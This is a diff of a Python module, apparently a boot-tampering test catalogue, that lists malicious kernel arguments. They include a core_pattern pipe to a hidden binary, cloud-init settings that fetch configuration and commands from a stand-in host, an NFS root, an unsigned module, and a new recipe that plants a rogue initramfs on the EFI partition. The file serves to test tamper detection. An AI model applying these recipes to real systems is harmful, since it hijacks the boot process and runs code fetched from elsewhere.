@@ -1,5 +1,5 @@
 """Arguments of the kernel, in every place that gives some."""
-from tamper_disk import Recipes, unsigned
+from tamper_disk import Recipes, cpio, new_file, unsigned
 
 recipe = Recipes()
 argument = recipe.argument
@@ -13,14 +13,14 @@ argument('credential-of-the-password', 'systemd.set_credential=passwd.hashed-pas
 argument('settings-of-the-kernel', 'sysctl.kernel.core_pattern="|/root/.x %p"')  # fs/proc/proc_sysctl.c, do_sysctl_args
 recipe['modules-to-load'] = lambda d: (d.argument('modules_load=helper'), (  # systemd-modules-load.service(8)
     'LNX-KERNEL-010', d.put(f'{d.modules}/kernel/helper.ko', unsigned(d.module()[1]))))[1]
-argument('script-of-the-initramfs', 'boot=x')                            # init of initramfs-tools sources /scripts/$BOOT
-argument('cloud-init-from-elsewhere', 'ds=nocloud-net;s=http://203.0.113.9/')  # cloud-init, NoCloud: user data of that server
-argument('configuration-of-cloud-init', 'cc:{bootcmd: [/root/.x]}end_cc')  # cloud-init, kernel command line
+argument('cloud-init-from-elsewhere', '"ds=nocloud-net;s=http://203.0.113.9/"')  # cloud-init, NoCloud: user data of that server
+argument('configuration-of-cloud-init', '"cc:{bootcmd: [/root/.x]}end_cc"')  # cloud-init, kernel command line
 argument('address-of-cloud-init', 'cloud-config-url=http://203.0.113.9/x')  # the same; url= is its older name
 argument('root-over-the-network', 'boot=nfs nfsroot=203.0.113.9:/x')     # initramfs-tools(7); nfsroot.rst
 argument('root-of-another-disk', 'root=PARTUUID=00000000-1111-4222-8333-444444444444')  # the last root= counts
-argument('hypervisor-off', 'hugepages=x kernel.unknown_word=1 acpi_rsdp=0x1000')  # kernel-parameters.txt: tables at that address
-argument('kernels-first-initramfs', 'initrd=/EFI/x.img')                 # efi/libstub: the stub loads it where it starts the kernel
+argument('tables-of-the-machine', 'acpi_rsdp=0x1000')  # kernel-parameters.txt: tables at that address
+recipe['kernels-own-initramfs'] = lambda d: (d.argument('initrd=/EFI/x.img'), (  # efi/libstub/file.c: the stub loads it from the loader's volume
+    'LNX-KERNEL-014', d.esp_put('/EFI/x.img', cpio([new_file('init', b'#!/bin/sh\nexec /x\n')]))))[1]
 argument('debug-port', 'kgdboc=ttyS0 kgdbwait')                          # kernel-parameters.txt: memory by the serial line
 
 # The arguments below change what is mounted or what is started.
